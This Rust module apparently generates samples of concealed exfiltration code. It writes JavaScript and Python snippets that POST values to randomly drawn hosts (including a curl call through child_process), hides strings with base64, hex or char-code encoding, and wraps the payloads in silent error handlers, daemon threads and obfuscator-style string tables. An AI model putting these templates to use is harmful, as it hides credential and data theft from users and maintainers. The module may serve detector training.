//! Texts of programs that several forms share: what is taken, how it is sent, how it is hidden.

use crate::draw::Draw;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// Base64.
pub(crate) fn base64(text: &str) -> String {
    STANDARD.encode(text)
}

/// Base64 of what gzip makes of a text.
pub(crate) fn gzip(text: &str) -> Option<String> {
    use std::io::Write;
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gzip.write_all(text.as_bytes()).ok()?;
    Some(STANDARD.encode(gzip.finish().ok()?))
}

/// An expression of JavaScript that gives a text, written in one of several ways.
pub(crate) fn js_text(text: &str, draw: &mut Draw) -> String {
    match draw.below(6) {
        0 | 1 => format!("'{text}'"),
        2 => format!("Buffer.from('{}', 'base64').toString()", base64(text)),
        3 => format!("Buffer.from('{}', 'hex').toString('utf8')", hex(text)),
        4 => format!("String.fromCharCode({})", codes(text)),
        _ => {
            let (a, b) = text.split_at(text.len() / 2);
            format!("['{a}', '{b}'].join('')")
        }
    }
}

/// The same for Python.
pub(crate) fn py_text(text: &str, draw: &mut Draw) -> String {
    match draw.below(6) {
        0 | 1 => format!("\"{text}\""),
        2 => format!("__import__('base64').b64decode('{}').decode()", base64(text)),
        3 => format!("bytes.fromhex('{}').decode()", hex(text)),
        4 => format!("''.join(chr(c) for c in [{}])", codes(text)),
        _ => format!("'{}'[::-1]", text.chars().rev().collect::<String>()),
    }
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

fn codes(text: &str) -> String {
    let codes: Vec<String> = text.bytes().map(|byte| byte.to_string()).collect();
    codes.join(", ")
}

/// JavaScript that sends the value of an expression.
pub(crate) fn js_send(value: &str, draw: &mut Draw) -> String {
    let (url, host) = (draw.url(), draw.host());
    let address = js_text(&url, draw);
    match draw.below(5) {
        0 => format!(
            "const r = require('https').request({{hostname: {}, path: '/c', method: 'POST'}}); r.write({value}); r.end();",
            js_text(host, draw)
        ),
        1 => format!("fetch({address}, {{method: 'POST', body: {value}}}).catch(() => {{}});"),
        2 => format!("require('axios').post({address}, {{d: {value}}}).catch(function () {{}});"),
        3 => format!(
            "require('http').get({address} + '?d=' + encodeURIComponent({value})).on('error', () => {{}});"
        ),
        _ => {
            format!("require('child_process').exec('curl -s -X POST -d @- ' + {address}).stdin.end({value});")
        }
    }
}

/// Python that sends the value of an expression, as one block without indentation.
pub(crate) fn py_send(value: &str, draw: &mut Draw) -> String {
    let url = draw.url();
    let address = py_text(&url, draw);
    match draw.below(4) {
        0 => format!("import requests\nrequests.post({address}, json={{'d': {value}}}, timeout=5)\n"),
        1 => format!(
            "import urllib.request, json\nurllib.request.urlopen(urllib.request.Request({address}, data=json.dumps({value}).encode()))\n"
        ),
        2 => format!(
            "import http.client, json\nc = http.client.HTTPSConnection({})\nc.request('POST', '/c', json.dumps({value}))\n",
            py_text(draw.host(), draw)
        ),
        _ => format!(
            "import socket, json\ns = socket.create_connection(({}, 443))\ns.sendall(json.dumps({value}).encode())\n",
            py_text(draw.host(), draw)
        ),
    }
}

/// A block of Python in a function that is called, or in a `try`.
pub(crate) fn py_block(body: &str, draw: &mut Draw) -> String {
    let indented: String = body.lines().map(|line| format!("    {line}\n")).collect();
    match draw.below(3) {
        0 => format!("\n\ntry:\n{indented}except Exception:\n    pass\n"),
        1 => {
            let name = draw.name();
            format!("\n\ndef _{name}():\n{indented}\n\n_{name}()\n")
        }
        _ => {
            let name = draw.name();
            format!(
                "\n\ndef _{name}():\n{indented}\n\nimport threading\nthreading.Thread(target=_{name}, daemon=True).start()\n"
            )
        }
    }
}

/// JavaScript on one line, as minifiers leave it.
pub(crate) fn squeezed(code: &str) -> String {
    code.lines().map(str::trim).collect::<Vec<_>>().join(" ")
}

/// A block of JavaScript that runs at once.
pub(crate) fn js_block(body: &str, draw: &mut Draw) -> String {
    let body = if draw.below(3) == 0 { squeezed(body) } else { body.to_owned() };
    match draw.below(3) {
        0 => format!("\n;(function () {{ try {{ {body} }} catch (e) {{}} }})();\n"),
        1 => format!("\n;(() => {{\n  {body}\n}})();\n"),
        _ => format!("\nsetTimeout(function () {{ {body} }}, 1000);\n"),
    }
}

/// JavaScript as the usual obfuscator leaves it: a table of encoded texts, and access by number.
pub(crate) fn js_obfuscated(texts: &[&str], body: &str, draw: &mut Draw) -> String {
    let (table, get) = (draw.machine_name(), draw.machine_name());
    let encoded: Vec<String> = texts
        .iter()
        .map(|text| {
            let escaped: String = base64(text).bytes().map(|byte| format!("\\x{byte:02x}")).collect();
            format!("'{escaped}'")
        })
        .collect();
    let mut code = format!(
        "var {table}=[{}];function {get}(i){{return Buffer['from']({table}[i-0x1a],'base64')['toString']();}}",
        encoded.join(",")
    );
    let mut body = body.to_owned();
    for at in 0..texts.len() {
        body = body.replace(&format!("${at}"), &format!("{get}(0x{:x})", at + 0x1a));
    }
    for name in ["alpha", "beta", "gamma", "delta"] {
        body = body.replace(name, &draw.machine_name());
    }
    code.push_str(&squeezed(&body));
    code
}
